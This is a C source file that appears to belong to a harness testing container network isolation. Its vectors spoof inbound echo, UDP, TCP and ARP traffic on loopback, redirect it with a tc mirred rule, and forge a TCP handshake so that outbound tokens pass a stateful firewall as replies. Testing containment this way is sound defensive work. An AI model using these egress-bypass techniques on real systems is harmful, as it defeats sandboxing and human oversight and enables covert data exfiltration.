/* SPDX-License-Identifier: Apache-2.0 */
/* As if it had come from outside: a packet socket puts into the container's own stack what the
 * target never sent, so that what is sent to the target looks like an answer. */
#include "../adversary.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define SYN	    2
#define ACK	    16
#define LISTEN_PORT 6997

static int inject(const struct attempt *attempt, const uint8_t *packet, size_t size)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	uint8_t frame[ROOM + ETH_HLEN];
	struct ifreq request = {.ifr_name = "lo"};

	/* lo has no address, as a rule, but can be given one. */
	if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &request))
		return -errno;
	put_ethernet(frame, attempt, is_v6(&attempt->target) ? ETHERTYPE_IPV6 : ETHERTYPE_IP);
	memcpy(frame, request.ifr_hwaddr.sa_data, 6);
	memset(frame + 6, 0, 6);
	memcpy(frame + ETH_HLEN, packet, size);
	return send_frame("lo", frame, ETH_HLEN + size);
}

VECTOR(reflected_echo)
{
	uint8_t packet[ROOM];

	return inject(attempt, packet,
		      put_echo(packet, &attempt->target, &attempt->own, attempt->token));
}

VECTOR(reflected_udp)
{
	uint8_t packet[ROOM];

	return inject(attempt, packet,
		      put_udp(packet, &attempt->target, &attempt->own, 6998, attempt->token));
}

VECTOR(reflected_syn)
{
	uint8_t packet[ROOM];

	return inject(attempt, packet,
		      put_tcp(packet, &attempt->target, &attempt->own, 6998, SYN, NULL));
}

static int listen_here(const struct attempt *attempt)
{
	union any here = with_port(&attempt->own, LISTEN_PORT);
	int fd = bound_socket(&here, SOCK_STREAM, 0);

	return fd < 0 ? fd : listen(fd, 8) ? -errno : fd;
}

/* The SYN-ACK is a listener's, and its numbers are the application's choice. */
VECTOR(reflected_syn_to_listener)
{
	int listener = listen_here(attempt);
	uint8_t packet[ROOM];

	if (listener < 0)
		return listener;
	return inject(attempt, packet,
		      put_tcp(packet, &attempt->target, &attempt->own, LISTEN_PORT, SYN, NULL));
}

/* The number of the SYN-ACK, seen as it leaves. */
static int watch_answer(int sniffer, const struct attempt *attempt, uint32_t *ret_number)
{
	struct pollfd poller = {.fd = sniffer, .events = POLLIN};
	size_t head = ETH_HLEN + header_size(&attempt->target), size;
	const void *wanted = bytes_of(&attempt->target, &size);
	uint8_t frame[ROOM];

	while (poll(&poller, 1, PATIENCE_MS) == 1) {
		ssize_t length = recv(sniffer, frame, sizeof(frame), 0);

		if (length < (ssize_t)(head + TCP_SIZE) || frame[head + 13] != (SYN | ACK) ||
		    memcmp(frame + head - size, wanted, size))
			continue;
		memcpy(ret_number, frame + head + 4, 4);
		*ret_number = ntohl(*ret_number);
		return 0;
	}
	return -ETIMEDOUT;
}

/* A whole connection "from" the target, accepted here: what is sent on it is an answer. */
VECTOR(reflected_connection)
{
	int listener = listen_here(attempt), result, accepted;
	int sniffer = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	struct pollfd poller = {.fd = listener, .events = POLLIN};
	uint8_t packet[ROOM];
	uint32_t number;

	if (listener < 0 || sniffer < 0)
		return -errno;
	result = inject(attempt, packet,
			put_tcp(packet, &attempt->target, &attempt->own, LISTEN_PORT, SYN, NULL));
	result = result ?: watch_answer(sniffer, attempt, &number);
	if (result)
		return result;
	result = inject(attempt, packet,
			put_segment(packet, &attempt->target, &attempt->own, LISTEN_PORT,
				    number + 1));
	if (result || poll(&poller, 1, PATIENCE_MS) != 1)
		return result ?: -ETIMEDOUT;
	accepted = accept(listener, NULL, NULL);
	return accepted < 0 ? -errno
			    : sent(send(accepted, attempt->token, strlen(attempt->token), 0));
}

/* What goes to lo comes in by the container's device (NET_ADMIN). */
static int turned(const struct attempt *attempt, vector_fn function)
{
	int result = shell("tc qdisc add dev lo clsact; tc filter add dev lo egress protocol all "
			   "u32 match u32 0 0 action mirred ingress redirect dev " DEVICE);

	result = result ?: function(attempt);
	usleep(2000);
	shell("tc qdisc del dev lo clsact");
	return result;
}

static int frame_in(const struct attempt *attempt, const uint8_t *packet, size_t size,
		    uint16_t type)
{
	uint8_t frame[ROOM + ETH_HLEN];

	put_ethernet(frame, attempt, type);
	memcpy(frame, attempt->mac, 6);
	memcpy(frame + 6, attempt->made_mac, 6);
	memcpy(frame + ETH_HLEN, packet, size);
	return send_frame("lo", frame, ETH_HLEN + size);
}

static uint16_t ip_type(const struct attempt *attempt)
{
	return is_v6(&attempt->target) ? ETHERTYPE_IPV6 : ETHERTYPE_IP;
}

static int echo_in(const struct attempt *attempt)
{
	uint8_t packet[ROOM];

	return frame_in(attempt, packet,
			put_echo(packet, &attempt->target, &attempt->own, attempt->token),
			ip_type(attempt));
}

VECTOR(injected_echo)
{
	return turned(attempt, echo_in);
}

/* The flow is known as one from outside; then it is answered. */
static int udp_in(const struct attempt *attempt)
{
	union any here = with_port(&attempt->own, LISTEN_PORT), to;
	int fd = bound_socket(&here, SOCK_DGRAM, 0), result;
	struct pollfd poller = {.fd = fd, .events = POLLIN};
	uint8_t packet[ROOM];

	result = frame_in(attempt, packet,
			  put_udp(packet, &attempt->target, &attempt->own, LISTEN_PORT, "x"),
			  ip_type(attempt));
	if (result || poll(&poller, 1, PATIENCE_MS) != 1)
		return result ?: -ETIMEDOUT;
	to = with_port(&attempt->target, SOURCE);
	return send_token(fd, attempt, &to);
}

VECTOR(injected_udp)
{
	return turned(attempt, udp_in);
}

/* A question of a station that there is not; the answer goes to it. */
static int arp_in(const struct attempt *attempt)
{
	uint8_t arp[28];
	size_t size;

	memcpy(arp, "\0\1\x08\0\6\4\0\1", 8);
	memcpy(arp + 8, attempt->made_mac, 6);
	memcpy(arp + 14, bytes_of(&attempt->onlink, &size), 4);
	memset(arp + 18, 0, 6);
	memcpy(arp + 24, bytes_of(&attempt->own, &size), 4);
	return frame_in(attempt, arp, sizeof(arp), ETHERTYPE_ARP);
}

VECTOR(injected_arp)
{
	return turned(attempt, arp_in);
}
